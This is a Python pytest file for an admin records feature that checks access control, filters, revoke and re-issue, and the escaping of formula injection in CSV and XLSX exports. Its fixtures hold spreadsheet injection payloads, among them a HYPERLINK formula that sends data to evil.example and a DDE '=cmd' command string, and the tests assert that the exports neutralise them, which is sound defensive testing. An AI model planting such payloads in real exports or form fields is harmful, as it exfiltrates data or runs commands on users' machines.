"""Administrators list, filter, revoke, re-issue and export records; nobody else can."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from learning.records.models import CompletionRecord
from tests import factories
from tests.conftest import AuthActions, csrf_token, recorded_statements

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    'a,b"c\nd',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def data(db):
    kenya = factories.organisation(db, name="=cmd|' /C calc'!A0", kind="ngo", country="KE")
    france = factories.organisation(db, name="Police nationale", kind="government", country="FR")
    for index, payload in enumerate(PAYLOADS):
        user = factories.user(db, display_name=payload, organisation=kenya, country="KE")
        factories.record(db, user, completed_at=datetime(2026, 3, 1 + index, tzinfo=UTC))
    officer = factories.user(db, display_name="Jean Dupont", organisation=france, country="FR")
    factories.record(
        db,
        officer,
        slug="foundations",
        title="Foundations",
        completed_at=datetime(2026, 6, 1, tzinfo=UTC),
    )
    db.commit()


@pytest.fixture
def admin(app):
    client = app.test_client()
    AuthActions(client).login(email="admin@example.org")
    return client


def test_non_administrators_are_refused(app, db, data):
    learner = factories.user(db, email="learner@example.org")
    record = factories.record(db, learner, slug="other")
    db.commit()
    client = app.test_client()
    auth = AuthActions(client)
    auth.login(email="learner@example.org")
    for url in ("/admin/records", "/admin/records/export.csv", "/admin/records/export.xlsx"):
        assert client.get(url).status_code == 403
    response = auth.post(
        f"/admin/records/{record.verification_code}/revoke", {"reason": "mine now"}
    )
    assert response.status_code == 403
    assert app.test_client().get("/admin/records").status_code == 302  # anonymous: log in


def test_csv_export_is_safe_and_round_trips(admin, data):
    response = admin.get("/admin/records/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="completion-records-'
    )
    raw = response.data.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
    assert len(rows) == 1 + len(PAYLOADS) + 1 and {len(row) for row in rows} == {len(rows[0])}
    for row in rows[1:]:
        assert not any(cell.startswith(TRIGGERS) for cell in row), row
    names = [row[2] for row in rows[1:]]
    assert "'=1+1" in names and 'a,b"c\nd' in names  # quoted fields survive intact
    assert "'=cmd|' /C calc'!A0" in rows[1]


def test_xlsx_export_is_safe(admin, data):
    response = admin.get("/admin/records/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "@SUM(1+1)" in values and "'@SUM(1+1)" not in values


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", 9),
        ("subject=foundations", 1),
        ("country=FR", 1),
        ("region=Africa", 8),
        ("region=Europe", 1),
        ("organisation_kind=government", 1),
        ("date_from=2026-03-02&date_to=2026-03-03", 2),
        ("date_from=not-a-date", 9),
    ],
)
def test_filters(admin, data, query, expected):
    rows = admin.get(f"/admin/records/export.csv?{query}").data.decode("utf-8").splitlines()
    page = admin.get(f"/admin/records?{query}").get_data(as_text=True)
    assert f"{expected} record" in page
    assert len(list(csv.reader(rows))) - 1 >= expected


def test_revoke_and_reissue_from_the_page(admin, db, data):
    code = db.scalar(select(CompletionRecord.verification_code).limit(1))
    token = csrf_token(admin, "/admin/records")
    assert (
        admin.post(
            f"/admin/records/{code}/revoke", data={"csrf_token": token, "reason": ""}
        ).status_code
        == 302
    )
    db.rollback()
    assert (
        db.scalar(
            select(CompletionRecord.revoked_at).where(CompletionRecord.verification_code == code)
        )
        is None
    )
    admin.post(
        f"/admin/records/{code}/revoke",
        data={"csrf_token": token, "reason": "Completed by someone else"},
    )
    assert "Completed by someone else" in admin.get(f"/verify/{code}").get_data(as_text=True)
    admin.post(f"/admin/records/{code}/reissue", data={"csrf_token": token})
    assert "Valid." in admin.get(f"/verify/{code}").get_data(as_text=True)


def test_cli_export_revoke_reissue(runner, db, data, tmp_path):
    code = db.scalar(select(CompletionRecord.verification_code).limit(1))
    db.rollback()
    result = runner.invoke(args=["records", "revoke", code.lower(), "--reason", "Duplicate"])
    assert result.exit_code == 0, result.output
    assert runner.invoke(args=["records", "revoke", code, "--reason", "x"]).exit_code != 0
    assert runner.invoke(args=["records", "reissue", code]).exit_code == 0
    assert runner.invoke(args=["records", "reissue", "nonsense"]).exit_code != 0
    target = tmp_path / "out.xlsx"
    result = runner.invoke(
        args=["records", "export", "--format", "xlsx", "-o", str(target), "--country", "fr"]
    )
    assert result.exit_code == 0 and load_workbook(target).active.max_row == 2
    result = runner.invoke(args=["records", "export", "--region", "Africa"])
    assert result.exit_code == 0 and len(result.output.strip().splitlines()) >= 9


def test_streamed_export_returns_its_database_connection(app, admin, data):
    from learning.db import get_engine

    response = admin.get("/admin/records/export.csv")
    assert response.status_code == 200 and response.data
    assert get_engine(app).pool.checkedout() == 0


@pytest.mark.parametrize(
    "url", ["/admin/records", "/admin/records/export.csv", "/admin/records/export.xlsx"]
)
def test_the_list_and_exports_cost_the_same_queries_for_5_or_60_records(app, admin, db, url):
    counts: list[int] = []
    for first, last in ((0, 5), (5, 60)):
        for number in range(first, last):
            organisation = factories.organisation(db, name=f"Organisation {number}")
            factories.record(
                db, factories.user(db, display_name=f"Learner {number}", organisation=organisation)
            )
        db.commit()
        with recorded_statements(app) as statements:
            response = admin.get(url)
            body = response.get_data()  # exports stream: read them to the end
        assert response.status_code == 200
        assert b"Learner 4" in body or url.endswith(".xlsx")
        counts.append(len(statements))
    assert counts[0] == counts[1], counts
